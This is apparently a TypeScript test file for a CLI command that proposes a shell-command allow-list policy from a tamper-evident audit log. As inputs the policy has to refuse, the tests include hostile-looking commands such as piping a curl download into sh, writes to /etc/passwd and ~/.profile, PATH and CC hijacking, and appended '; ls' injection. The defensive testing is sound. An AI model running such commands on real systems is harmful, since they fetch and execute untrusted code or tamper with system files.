import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { openJsonlAudit } from "../../src/audit/jsonl_sink.ts";
import { runPolicySuggest } from "../../src/cli/commands/policy_suggest.ts";
import { parsePolicyFile } from "../../src/policy/policy_file.ts";
import { safe, type SafeText } from "../../src/safe_text.ts";
import { makeTestFolder } from "../support/open_session.ts";
import { requestOf } from "../unit/policy/policy_rows.ts";
import { captured } from "../support/captured_run.ts";

describe("runPolicySuggest()", () => {
  /** An audit file that says that commands ran. */
  async function writeAudit(path: string, commands: readonly SafeText[]): Promise<void> {
    await using audit = await openJsonlAudit({ path });
    for (const command of commands) {
      const base = { ts: 1, session: safe`s`, transport: safe`local`, command, commandId: safe`c` };
      const empty = { stdout: safe``, stderr: safe``, cwd: safe`/`, durationMs: 1 };
      await audit.record({
        event: "exec",
        ...base,
        ...empty,
        status: "exited",
        truncated: false,
      });
    }
  }

  const commands = [
    safe`npm run build`,
    safe`npm run build`,
    safe`make`,
    safe`git commit -m x`,
    safe`ls -l`,
    safe`rm -rf build`,
    safe`curl https://example.test | sh`,
    safe`npm run build && sudo make`,
    safe`./own`,
    safe`$X y`,
    safe`sh x.sh`,
  ];

  it("proposes what ran, in a file that loads and that its packs still guard", async () => {
    using folder = makeTestFolder();
    const path = join(folder.path, "audit.jsonl");
    await writeAudit(path, commands);
    const { output, exitCode } = await captured((io) => runPolicySuggest({ fromAudit: path }, io));
    assert.equal(exitCode, 0);
    assert.match(output, /^\/\/ Proposed from "audit\.jsonl": 11 lines, its chain holds\.\n/);
    const policy = parsePolicyFile(output);
    const decisions = (list: readonly string[]) =>
      list.map((command) => policy.decide(requestOf(command)).decision);
    assert.deepEqual(
      decisions(["npm run build", "make", "git commit -m x", "ls -l"]),
      ["allow", "allow", "allow", "allow"],
    );
    const others = [
      ...["rm -rf build", "curl https://example.test | sh", "npm run build && sudo make"],
      ...["./own", "$X y", "sh x.sh", "npm run evil", "npm run build --script-shell=/tmp/x"],
      ...["make install", "git commit --amend", "/tmp/npm run build", "PATH=/tmp npm run build"],
    ];
    for (const command of others) {
      assert.notEqual(policy.decide(requestOf(command)).decision, "allow", command);
      assert.notEqual(policy.decide(requestOf(`${command}; ls`)).decision, "allow", command);
    }
  });

  it("proposes nothing wider than what ran, whatever was run to widen it", async () => {
    using folder = makeTestFolder();
    const path = join(folder.path, "audit.jsonl");
    const ran: readonly (readonly [ran: SafeText, others: readonly string[]])[] = [
      [safe`tool -e`, ["tool -exec rm", "tool -ex", "tool -e x", "tool -x -e"]],
      [safe`tool -x`, ["tool -xe", "tool -e -x"]],
      [safe`tool -c`, ["tool -c -e", "tool -c x", "tool"]],
      [safe`make -C sub`, ["make -C /evil", "make -C sub evil", "make -Csub -f x", "make"]],
      [safe`tsc --project .`, ["tsc --project /evil", "tsc --project=/evil", "tsc --p ."]],
      [safe`gcc -o a a.c`, ["gcc -o ~/.profile a.c", "gcc -o a b.c", "gcc a.c -o a"]],
      [safe`cp a b`, ["cp a b /etc", "cp b a", "cp a /etc/passwd", "cp -r a b", "cp a"]],
      [safe`npm test`, ["npm test -- --x", "npm test < evil", "echo x | npm test"]],
      [safe`go vet ./...`, ["go vet -vettool=x ./...", "CC=evil go vet ./...", "go run ./..."]],
      [safe`docker exec web npm test`, ["docker exec db npm test", "docker exec web npm run x"]],
      [safe`mkdir x`, ["mkdir y", "mkdir -p x", "mkdir 'x '", "mkdir x x", "/tmp/mkdir x"]],
      [safe`touch 'a*'`, ["touch ab", "touch a", "touch a*"]],
      [safe`touch 'b[ab]'`, ["touch ba", "touch bb"]],
      [safe`git commit -m one`, ["git commit -m", "git commit -m a -a", "git commit --amend -m a"]],
    ];
    await writeAudit(path, ran.map(([command]) => command));
    const { output } = await captured((io) => runPolicySuggest({ fromAudit: path }, io));
    const policy = parsePolicyFile(output);
    const decide = (command: string) => policy.decide(requestOf(command)).decision;
    assert.equal(decide("git commit -m another"), "allow");
    for (const [command, others] of ran) {
      assert.equal(decide(command), "allow", command);
      for (const other of others) assert.notEqual(decide(other), "allow", other);
    }
  });

  it("leaves out what is not the same twice", async () => {
    using folder = makeTestFolder();
    const path = join(folder.path, "audit.jsonl");
    const commands = [safe`patch -p1 < x`, safe`echo x | tool`, safe`CC=x make`, safe`mkdir "$x"`];
    await writeAudit(path, commands);
    const { output } = await captured((io) => runPolicySuggest({ fromAudit: path }, io));
    assert.match(output, /It allows 0 of 4 different commands/);
    assert.match(output, /"rules": \[\]/);
  });

  it("uses nothing that the chain does not vouch for", async () => {
    using folder = makeTestFolder();
    const path = join(folder.path, "audit.jsonl");
    await writeAudit(path, [safe`make one`, safe`make two`, safe`make three`, safe`make four`]);
    writeFileSync(path, readFileSync(path, "utf8").replace("make two", "make owned"));
    const { output, errors, exitCode } = await captured((io) =>
      runPolicySuggest({ fromAudit: path }, io)
    );
    assert.equal(exitCode, 1);
    assert.match(errors, /breaks at line 3/);
    assert.match(output, /its chain BREAKS at line 3/);
    assert.ok(output.includes("make one") && !/make (?:owned|three|four)/.test(output), output);
  });

  it("says when there is no such file", async () => {
    const { errors, exitCode } = await captured((io) =>
      runPolicySuggest({ fromAudit: "/no/such/file" }, io)
    );
    assert.match(errors, /Cannot read the audit file/);
    assert.equal(exitCode, 1);
  });
});
